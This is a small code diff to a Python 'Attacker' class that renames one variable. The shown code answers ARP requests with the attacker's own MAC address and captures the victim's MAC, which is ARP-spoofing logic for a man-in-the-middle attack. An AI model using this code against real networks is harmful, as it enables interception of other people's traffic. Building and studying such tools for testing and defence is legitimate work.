@@ -136,9 +136,9 @@ class Attacker:
 
     def _receive(self, data):
         if asked := wire.asked_for(data):
-            asker, address = asked
+            resolver, address = asked
             if address in self.addresses:
-                self.send(wire.arp(2, (MAC, address), asker))
+                self.send(wire.arp(2, (MAC, address), resolver))
             return
         if len(data) >= 42 and data[12:14] == b"\x08\x06" and data[28:32] == bytes(map(int, self.victim[1].split("."))):
             self.victim = (data[22:28], self.victim[1])
